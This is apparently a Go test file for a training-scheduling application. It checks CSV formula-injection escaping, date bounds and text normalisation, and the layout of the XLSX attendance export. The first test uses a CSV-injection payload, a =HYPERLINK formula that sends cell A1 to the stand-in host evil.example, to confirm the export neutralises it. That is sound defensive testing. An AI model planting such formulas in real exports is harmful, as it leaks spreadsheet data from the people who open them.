package scheduling_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ctvacademy/academy/modules/app/apptest"
	"github.com/ctvacademy/academy/modules/platform/authz"
	"github.com/ctvacademy/academy/modules/platform/clock"
	"github.com/ctvacademy/academy/modules/scheduling"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/unicode/norm"
)

// A name typed as a formula reaches the attendance CSV as text: a
// spreadsheet program shows it, and never runs it.
func TestAttendanceCSVNeverCarriesAFormula(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t)
	coord := s.LoginDemo(t, apptest.Coordinator)
	person := s.Find(t, "ctv", "NT")
	formula := `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
	if r := s.Do(t, "PATCH", "/api/v1/collaborators/"+person.ID, coord, map[string]any{"full_name": formula}); r.Status != 200 {
		t.Fatalf("rename: %d %s", r.Status, r.Body)
	}
	start := time.Now().Add(-time.Hour).Truncate(time.Minute) // under way: attendance can be taken
	x := newSession(t, s, coord, with(times(start, 2*time.Hour), map[string]any{"trainer": "+84 Trần Văn Tâm", "location": "@Hội trường"}))
	if r := s.Do(t, "PUT", "/api/v1/sessions/"+x.ID+"/attendance", coord, []map[string]string{{"collaborator_id": person.ID, "status": "present"}}); r.Status != 200 {
		t.Fatalf("attendance: %d %s", r.Status, r.Body)
	}
	r := s.Do(t, "GET", "/api/v1/attendance/export.csv?session_id="+x.ID, coord, nil)
	if r.Status != 200 {
		t.Fatalf("csv: %d %s", r.Status, r.Body)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv rows %v, %v", rows, err)
	}
	line := rows[1]
	if line[7] != "'"+formula || line[5] != "'+84 Trần Văn Tâm" || line[4] != "'@Hội trường" {
		t.Errorf("csv line %q", line)
	}
	for i, cell := range line {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("cell %d starts a formula: %q", i, cell)
		}
	}
}

// Session dates are bounded at the API and the form: year 1 and year 9999
// are typing mistakes; the text is stored in NFC without invisible
// characters.
func TestSessionIntakeBoundsDatesAndNormalisesText(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 12, 7, 0, 30, 0, 0, time.UTC)
	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(now)})
	coord := s.LoginDemo(t, apptest.Coordinator)
	ok := now.Add(48 * time.Hour)
	x := newSession(t, s, coord, with(times(ok, 2*time.Hour), map[string]any{"title": norm.NFD.String("Tập huấn\u200b kỹ năng"), "location": norm.NFD.String(" Hội trường xã Phước An "), "trainer": norm.NFD.String("ThS. Lê Văn Hùng\u2060")}))
	if x.Title != "Tập huấn kỹ năng" || x.Location != "Hội trường xã Phước An" || x.Trainer != "ThS. Lê Văn Hùng" {
		t.Errorf("stored text %q %q %q", x.Title, x.Location, x.Trainer)
	}
	for _, v := range []string{x.Title, x.Location, x.Trainer} {
		if !norm.NFC.IsNormalString(v) {
			t.Errorf("%q is not NFC", v)
		}
	}

	at := func(ts string) map[string]any {
		st, err := time.Parse(time.RFC3339, ts)
		if err != nil {
			t.Fatal(err)
		}
		return map[string]any{"title": "x", "location": "y", "starts_at": ts, "ends_at": st.Add(time.Hour).Format(time.RFC3339)}
	}
	for _, tc := range []struct {
		name, method, path string
		body               map[string]any
		field              string
	}{
		{"year 1", "POST", "/api/v1/sessions", at("0001-01-01T08:00:00+07:00"), "starts_at"},
		{"year 9999", "POST", "/api/v1/sessions", at("9999-12-31T08:00:00+07:00"), "starts_at"},
		{"1999", "POST", "/api/v1/sessions", at("1999-12-31T08:00:00+07:00"), "starts_at"},
		{"eleven years ahead", "POST", "/api/v1/sessions", at(now.AddDate(11, 0, 0).Format(time.RFC3339)), "starts_at"},
		{"moved to year 1", "PATCH", "/api/v1/sessions/" + x.ID, map[string]any{"starts_at": "0001-01-01T08:00:00Z"}, "starts_at"},
		{"ending in 9999", "PATCH", "/api/v1/sessions/" + x.ID, map[string]any{"ends_at": "9999-01-01T08:00:00Z"}, "ends_at"},
	} {
		r := s.Do(t, tc.method, tc.path, coord, tc.body)
		if r.Status != 400 || !r.Problem(t).HasField(tc.field) {
			t.Errorf("%s: %d %s, want 400 naming %s", tc.name, r.Status, r.Body, tc.field)
		}
	}
	// The edges are fine.
	newSession(t, s, coord, at("2000-01-01T08:00:00+07:00"))
	newSession(t, s, coord, at(now.AddDate(10, 0, -1).Format(time.RFC3339)))

	// The form says so on the date field, in Vietnamese.
	f := s.Forms(t, coord)
	f.Get("/sessions/new")
	form := url.Values{"title": {"Tập huấn"}, "course_code": {"KC-101"}, "date": {"9999-12-09"}, "start": {"08:00"},
		"end": {"11:30"}, "location": {"Hội trường"}, "area_code": {"NT"}}
	if p := f.Post("/sessions", form); p.Status != 400 || !strings.Contains(p.Body, `id="err-date"`) || !strings.Contains(p.Body, "Ngày tập huấn phải từ 01/01/2000") {
		t.Errorf("form with year 9999: %d", p.Status)
	}
	form.Set("date", "0001-01-01")
	if p := f.Post("/sessions", form); p.Status != 400 || !strings.Contains(p.Body, `id="err-date"`) {
		t.Errorf("form with year 1: %d", p.Status)
	}
	all, err := s.App.Scheduling.List(context.Background(), authz.All, scheduling.Query{})
	if err != nil || len(all) != 3 {
		t.Errorf("%d sessions after the refused ones, want 3 (%v)", len(all), err)
	}
	got := getSession(t, s, x.ID)
	if !got.StartsAt.Equal(x.StartsAt) || !got.EndsAt.Equal(x.EndsAt) {
		t.Errorf("a refused PATCH moved the session: %v–%v", got.StartsAt, got.EndsAt)
	}
}

// filterRef is the autofilter of a sheet with a header and one row, A to K.
var filterRef = regexp.MustCompile(`<autoFilter ref="\$?A\$?1:\$?K\$?2"`)

// The attendance XLSX stores dates and times as Excel numbers with a date
// or time format (so they sort and filter as dates), hours as a number,
// freezes its header row, filters every column and sets column widths.
func TestAttendanceXLSXHasRealDatesAFrozenHeaderAndAFilter(t *testing.T) {
	t.Parallel()
	clk := clock.NewManual(time.Date(2026, 12, 7, 0, 30, 0, 0, time.UTC))
	start := time.Date(2026, 12, 7, 1, 0, 0, 0, time.UTC) // 08:00 in Vietnam
	s, coord, x := started(t, apptest.Options{Clock: clk}, start, 3*time.Hour+30*time.Minute)
	invitee := s.Find(t, "ctv", "NT")
	s.Do(t, "POST", "/api/v1/sessions/"+x.ID+"/invitations", coord, map[string]any{"collaborator_ids": []string{invitee.ID}})
	s.Do(t, "PUT", "/api/v1/sessions/"+x.ID+"/attendance", coord, []map[string]string{{"collaborator_id": invitee.ID, "status": "present"}})

	r := s.Do(t, "GET", "/api/v1/attendance/export.xlsx?session_id="+x.ID, coord, nil)
	if r.Status != 200 {
		t.Fatalf("xlsx: %d %s", r.Status, r.Body)
	}
	f, err := excelize.OpenReader(bytes.NewReader(r.Body))
	if err != nil {
		t.Fatal(err)
	}
	sheet := f.GetSheetList()[0]
	raw := func(cell string) string {
		v, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	shown := func(cell string) string {
		v, err := f.GetCellValue(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	// 2026-12-07 is day 46363 of Excel's calendar; 08:00 a third of a day.
	for cell, want := range map[string]float64{"A2": 46363, "B2": 8.0 / 24, "C2": 11.5 / 24, "D2": 3.5} {
		v, err := strconv.ParseFloat(raw(cell), 64)
		if err != nil || v-want > 1e-9 || want-v > 1e-9 {
			t.Errorf("%s holds %q, want the number %v", cell, raw(cell), want)
		}
		if typ, _ := f.GetCellType(sheet, cell); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
			t.Errorf("%s is text", cell)
		}
	}
	for cell, want := range map[string]string{"A2": "07/12/2026", "B2": "08:00", "C2": "11:30", "D2": "3.50", "A1": "Ngày", "H2": invitee.FullName} {
		if got := shown(cell); got != want {
			t.Errorf("%s shows %q, want %q", cell, got, want)
		}
	}
	panes, err := f.GetPanes(sheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v (%v): the header row is not frozen", panes, err)
	}
	if w, _ := f.GetColWidth(sheet, "E"); w < 20 {
		t.Errorf("column E (place) is %v wide", w)
	}
	zr, err := zip.NewReader(bytes.NewReader(r.Body), int64(len(r.Body)))
	if err != nil {
		t.Fatal(err)
	}
	filtered := false
	for _, zf := range zr.File {
		if strings.HasPrefix(zf.Name, "xl/worksheets/") {
			rc, _ := zf.Open()
			b, _ := io.ReadAll(rc)
			rc.Close()
			filtered = filtered || filterRef.Match(b)
		}
	}
	if !filtered {
		t.Error("the sheet has no autofilter over its header and rows")
	}
}
